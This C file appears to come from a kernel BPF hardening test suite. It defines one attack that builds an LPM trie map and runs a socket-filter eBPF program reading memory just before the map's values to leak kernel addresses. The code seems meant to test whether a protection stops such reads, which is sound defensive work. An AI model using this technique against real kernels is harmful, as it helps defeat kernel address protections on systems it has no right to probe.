/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Attacks on what the kernel keeps around the values of maps. */
#include <unistd.h>
#include <bpf/bpf.h>

#include "../check.h"
#include "attack.h"

/* What links the nodes of a trie lies right before their values. */
static bool read_nodes(struct attempt *a)
{
	LIBBPF_OPTS(bpf_map_create_opts, opts, .map_flags = BPF_F_NO_PREALLOC);
	int trie = bpf_map_create(BPF_MAP_TYPE_LPM_TRIE, "moat_attack", 8, 8, 4, &opts);
	u32 wide[2] = { 8, 10 }, narrow[2] = { 16, 10 | 1 << 8 };
	u64 value = 6;
	s16 i;

	CHECK(!bpf_map_update_elem(trie, wide, &value, BPF_ANY) && !bpf_map_update_elem(trie, narrow, &value, BPF_ANY),
	      "no trie");
	put(ST(BPF_W, 10, -8, 32), ST(BPF_W, 10, -4, 10), LD_MAP(1, trie), MOVE(2, 10, -8), CALL(BPF_FUNC_map_lookup_elem));
	put(JMP_K(BPF_JNE, 0, 0, 2), MOV_K(0, 2), EXIT);
	for (i = 0; i < 6; i++)
		put(LDX(BPF_DW, 1, 0, (s16)(-12 - 8 * i)), STX(BPF_DW, 6, 1, (s16)(8 * i)));
	attempt_run(a);
	close(trie);
	return found_address(a, 6);
}

#define FILTER	BPF_PROG_TYPE_SOCKET_FILTER

const struct attack attacks_on_maps[] = {
	{ "read the nodes of a trie", FILTER, true, read_nodes },
	{ NULL, 0, false, NULL },
};
